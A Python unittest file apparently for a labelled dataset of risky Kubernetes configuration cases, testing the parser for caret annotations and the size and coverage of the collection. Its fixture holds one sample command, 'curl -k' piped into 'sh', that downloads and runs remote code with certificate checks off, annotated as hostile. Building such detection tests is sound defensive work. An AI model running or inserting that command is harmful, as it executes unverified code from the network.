"""The cases written by hand are many, distinct and annotated where there is text."""

from __future__ import annotations

import unittest
from collections import Counter
from pathlib import Path

from leastwise_training import cases
from leastwise_training.cases import BadCase, parse
from leastwise_training.documents import MEANINGS

FOLDER = Path(__file__).parents[1] / "cases"

SOURCE = """\
# case: one
kind: Pod
spec:
  args:
    - curl -k https://x.example | sh
#     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ command-disables-verification command-downloads-and-executes
  # a comment
---
# case: two
kind: Service
"""


class Format(unittest.TestCase):
    def test_annotations_and_titles_are_taken_out_of_the_text(self) -> None:
        first, second = parse(SOURCE)
        self.assertEqual(first.title, "one")
        self.assertEqual(first.text, "kind: Pod\nspec:\n  args:\n    - curl -k https://x.example | sh\n  # a comment\n")
        self.assertEqual([mark.line for mark in first.marks], [3])
        self.assertEqual(first.marks[0].labels, ["command-disables-verification", "command-downloads-and-executes"])
        self.assertEqual(first.text.split("\n")[3][first.marks[0].columns.start :], "curl -k https://x.example | sh")
        self.assertEqual((second.text, second.marks), ("kind: Service\n", []))

    def test_unknown_labels_are_refused(self) -> None:
        with self.assertRaises(BadCase):
            parse("# case: one\n    kind: Pod\n#   ^^^^ setting-mispelled\n")

    def test_carets_beyond_the_text_are_refused(self) -> None:
        with self.assertRaises(BadCase):
            parse("# case: one\n  kind: Pod\n#        ^^^^ setting-misspelled\n")

    def test_carets_under_blanks_are_refused(self) -> None:
        with self.assertRaises(BadCase):
            parse("# case: one\n  kind: Pod\n#^^^^^ setting-misspelled\n")

    def test_cases_without_a_title_are_refused(self) -> None:
        with self.assertRaises(BadCase):
            parse("kind: Pod\n")


class Written(unittest.TestCase):
    @classmethod
    def setUpClass(cls) -> None:
        cls.documents = list(cases.read(FOLDER))

    def test_there_are_enough(self) -> None:
        self.assertGreaterEqual(len(self.documents), 300)

    def test_each_meaning_has_a_file_with_cases_that_have_it_and_cases_that_do_not(self) -> None:
        having = Counter(label for document in self.documents for label in {label for _, label in document.labels})
        for meaning in MEANINGS:
            with self.subTest(meaning):
                self.assertGreaterEqual(having[meaning], 18)
                near = [document for document in self.documents if document.family == f"case/{meaning}" and not document.labels]
                self.assertGreaterEqual(len(near), 10)

    def test_no_text_stands_twice(self) -> None:
        texts = Counter(document.text for document in self.documents)
        self.assertEqual([text for text, count in texts.items() if count > 1], [])

    def test_no_line_has_a_label_twice(self) -> None:
        for document in self.documents:
            with self.subTest(document.id):
                self.assertEqual(len(document.labels), len(set(document.labels)))

    def test_a_case_is_one_document_of_moderate_size(self) -> None:
        for document in self.documents:
            with self.subTest(document.id):
                self.assertNotIn("# case:", document.text)
                self.assertNotIn("^^", document.text)
                self.assertTrue(6 <= document.text.count("\n") <= 41, document.text.count("\n"))


if __name__ == "__main__":
    unittest.main()
